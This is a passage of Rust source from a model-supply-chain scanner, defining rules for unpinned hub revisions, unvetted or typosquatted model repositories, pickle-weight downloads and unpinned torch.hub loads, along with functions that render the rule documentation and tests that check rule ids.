        what: "A hub load (from_pretrained of any class, pipeline(model=...), SentenceTransformer, \
               CrossEncoder, hf_hub_download, snapshot_download) of a repository id that is written in \
               the code (directly or through a constant) and whose revision is missing, a branch or \
               tag (\"main\", \"v1.0\"), or cannot be proved to be a 40-hex commit. Local paths (./x, \
               /abs, os.path.join(...), pathlib) and ids that cannot be resolved are not hub loads.",
        why: "A branch or tag is mutable: the publisher (or whoever takes over the account) can \
              replace the weights, the tokenizer or the remote code after review, and every later \
              run loads the new files.",
        example: "AutoModel.from_pretrained(\"google-bert/bert-base-uncased\")",
        fix: "Pass revision=\"<40-hex commit>\" of the reviewed snapshot (the commit shown on the hub's \
              \"Files\" tab), ideally one your allow-list or registry approves.",
        references: &[
            "CWE-494: Download of Code Without Integrity Check",
            "SLSA: pinned dependencies",
        ],
    },
    Rule {
        id: HYG_UNVETTED_MODEL,
        name: "hub-model-unvetted",
        severity: Severity::Medium,
        summary: "A hub model from a publisher and model not on the allow-list",
        what: "With an allow-list (--allow FILE) or a registry (--registry URL), a hub load whose \
               repository is neither an approved model nor from an approved publisher. Without an \
               allow-list this rule is silent.",
        why: "Anyone can publish to the hub; a model from an unvetted publisher may be poisoned \
              (backdoored weights, pickle payloads, remote code) and has not been through the \
              organisation's review.",
        example: "pipeline(\"text-generation\", model=\"random-user/llama-finetune\")",
        fix: "Use an approved model, or get this one reviewed and added to the allow-list / pushed to \
              the registry.",
        references: &["CWE-829: Inclusion of Functionality from Untrusted Control Sphere"],
    },
    Rule {
        id: HYG_REVISION_NOT_APPROVED,
        name: "hub-revision-not-approved",
        severity: Severity::Medium,
        summary: "An approved model pinned to a commit the allow-list does not approve",
        what: "The model is on the allow-list with approved revisions, and the code pins a different \
               40-hex commit.",
        why: "The approval covers the reviewed snapshot only; another commit of the same repository \
              may carry different weights or code.",
        example: "revision=\"1111111111111111111111111111111111111111\" where the allow-list approves another commit.",
        fix: "Pin the approved commit, or have the new one reviewed and added.",
        references: &["CWE-494: Download of Code Without Integrity Check"],
    },
    Rule {
        id: HYG_TYPOSQUAT,
        name: "hub-repo-typosquat",
        severity: Severity::High,
        summary: "A repository id one typo or look-alike away from a popular or approved one",
        what: "A hub repository id that is not itself on the popular list (shipped with pedigree) or the \
               allow-list but is within a small edit distance of one (1, or 2 for ids of 12+ \
               characters, under another publisher), or equal to one after folding confusable \
               characters (0/o, 1/l/I, rn/m, vv/w, -/_, Cyrillic and Greek homoglyphs, case). \
               Differences only in digits (model sizes, versions) are not reported.",
        why: "Typosquatted model repositories (meta-llama vs meta-llarna, a Cyrillic 'а') are a \
              known way to get poisoned weights or remote code loaded by people who meant the real one.",
        example: "AutoModel.from_pretrained(\"meta-llarna/Llama-3.1-8B\")",
        fix: "Correct the id to the intended publisher's repository and pin its revision.",
        references: &[
            "CWE-1357: Reliance on Insufficiently Trustworthy Component",
            "JFrog: malicious Hugging Face models (2024)",
        ],
    },
    Rule {
        id: HYG_PICKLE_WEIGHTS_DOWNLOAD,
        name: "pickle-weights-download",
        severity: Severity::Medium,
        summary: "Downloading pickle-format weights (.bin/.pt/.pth/.ckpt/.pkl) from the hub",
        what: "hf_hub_download of a file name (literal or constant) ending in .bin, .pt, .pth, .ckpt, \
               .pkl, .pickle or .joblib, and from_pretrained(..., use_safetensors=False). The check is \
               by file-name pattern: pedigree does not contact the hub, and hub repositories with \
               pytorch_model.bin almost always carry model.safetensors as well.",
        why: "Those formats are pickles: loading them runs whatever the file says (see PDG601/PDG603). \
              safetensors holds the same weights without code.",
        example: "hf_hub_download(\"org/model\", \"pytorch_model.bin\")",
        fix: "Download the safetensors variant (model.safetensors, or the *.safetensors shards) and load \
              it with safetensors; leave use_safetensors at its default.",
        references: &[CWE502, "safetensors security audit (Trail of Bits, 2023)"],
    },
    Rule {
        id: HYG_TORCH_HUB_UNPINNED,
        name: "torch-hub-unpinned",
        severity: Severity::Medium,
        summary: "torch.hub.load of a GitHub repository without a pinned commit",
        what: "torch.hub.load(\"owner/repo[:ref]\", ...) from GitHub (not source=\"local\") where ref is \
               missing (the default branch) or is a branch or tag rather than a 40-hex commit.",
        why: "torch.hub.load imports the repository's hubconf.py and runs it: the code of whatever the \
              branch points to at load time runs in the caller's process.",
        example: "torch.hub.load(\"ultralytics/yolov5\", \"yolov5s\")",
        fix: "Pin a reviewed commit (\"owner/repo:<40-hex>\") or vendor the code and load with \
              source=\"local\".",
        references: &[
            "CWE-494: Download of Code Without Integrity Check",
            "CWE-94",
        ],
    },
];

/// Looks a rule up by id (case-insensitive) or by name.
pub fn find(id_or_name: &str) -> Option<&'static Rule> {
    RULES
        .iter()
        .find(|r| r.id.eq_ignore_ascii_case(id_or_name) || r.name == id_or_name)
}

/// The rule with this id; the ids used in code are constants of this module, so a miss is a bug
/// caught by the registry test below.
pub fn get(id: &str) -> &'static Rule {
    find(id).unwrap_or(&RULES[0])
}

/// The rules reference as Markdown (generated into docs/rules.md).
pub fn render_markdown() -> String {
    let mut s = String::from(
        "# pedigree rules\n\nGenerated by `pedigree rules --markdown`; do not edit by hand.\n\n| id | name | severity | summary |\n|---|---|---|---|\n",
    );
    for r in RULES {
        s.push_str(&format!(
            "| [{}](#{}) | {} | {} | {} |\n",
            r.id,
            r.id.to_ascii_lowercase(),
            r.name,
            r.severity,
            r.summary
        ));
    }
    for r in RULES {
        s.push('\n');
        s.push_str(&render_one(r, true));
    }
    s
}

/// One rule's documentation, as plain text or Markdown.
pub fn render_one(r: &Rule, markdown: bool) -> String {
    let h = |t: &str| {
        if markdown {
            format!("**{t}.** ")
        } else {
            format!("{t}:\n  ")
        }
    };
    let mut s = if markdown {
        format!(
            "## {}\n\n`{}` · severity **{}**\n\n",
            r.id, r.name, r.severity
        )
    } else {
        format!(
            "{} {} (severity: {})\n{}\n\n",
            r.id, r.name, r.severity, r.summary
        )
    };
    let squash = |t: &str| t.split_whitespace().collect::<Vec<_>>().join(" ");
    for (title, body) in [
        ("What it finds", r.what),
        ("Why it matters", r.why),
        ("Example", r.example),
        ("How to fix", r.fix),
    ] {
        s.push_str(&h(title));
        s.push_str(&squash(body));
        s.push_str("\n\n");
    }
    if !r.references.is_empty() {
        s.push_str(&h("References"));
        s.push_str(&r.references.join("; "));
        s.push('\n');
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ids_are_unique_and_well_formed() {
        let mut seen = std::collections::HashSet::new();
        for r in RULES {
            assert!(
                r.id.starts_with("PDG") && r.id[3..].parse::<u32>().is_ok(),
                "{}",
                r.id
            );
            assert!(seen.insert(r.id), "duplicate id {}", r.id);
            assert!(!r.what.is_empty() && !r.why.is_empty() && !r.fix.is_empty());
        }
        for id in [
            PICKLE_DANGEROUS_GLOBAL,
            PICKLE_UNKNOWN_GLOBAL,
            PICKLE_MALFORMED,
            PICKLE_FRAME_DIVERGENCE,
            PICKLE_EXT_CODE,
            PICKLE_RESOURCE_EXHAUSTION,
            PICKLE_TRAILING_DATA,
            PICKLE_LAUNDERED_CALL,
            ZIP_BAD_CRC,
            ZIP_ENCRYPTION_FLAG,
            ZIP_NAME_MISMATCH,
            ZIP_DUPLICATE_NAME,
            ZIP_PREPENDED_DATA,
            ARCHIVE_LIMITS,
            ENCRYPTED_MEMBER,
            EXTENSION_MISMATCH,
            LEGACY_TORCH,
            UNSAFE_MEMBER_PATH,
            MALFORMED_CONTAINER,
            KERAS_LAMBDA,
            KERAS_LAMBDA_DANGEROUS,
            KERAS_CUSTOM_OBJECT,
            KERAS_DANGEROUS_REFERENCE,
            TF_PYTHON_OP,
            TF_FILE_OP,
            TF_NETWORK_OP,
            ONNX_EXTERNAL_DATA_ESCAPE,
            ONNX_CUSTOM_DOMAIN,
            ONNX_TENSOR_SIZE,
            CHAT_TEMPLATE_ESCAPE,
            CHAT_TEMPLATE_UNPARSABLE,
            SAFETENSORS_HEADER,
            SAFETENSORS_LAYOUT,
            HF_REMOTE_CODE,
            HF_REMOTE_CODE_DANGEROUS_CALL,
            HF_REMOTE_CODE_UNREADABLE,
            MODEL_FORMAT_MALFORMED,
            HYG_TORCH_LOAD_UNSAFE,
            HYG_TORCH_LOAD_DEFAULT,
            HYG_PICKLE_LOAD,
            HYG_NUMPY_ALLOW_PICKLE,
            HYG_KERAS_UNSAFE_MODE,
            HYG_TRUST_REMOTE_CODE,
            HYG_UNPINNED_REVISION,
            HYG_UNVETTED_MODEL,
            HYG_REVISION_NOT_APPROVED,
            HYG_TYPOSQUAT,
            HYG_PICKLE_WEIGHTS_DOWNLOAD,
            HYG_TORCH_HUB_UNPINNED,
        ] {
            assert_eq!(get(id).id, id);
        }
    }

    #[test]
    fn markdown_lists_every_rule() {
        let md = render_markdown();
        for r in RULES {
            assert!(md.contains(&format!("## {}", r.id)));
        }
    }
}
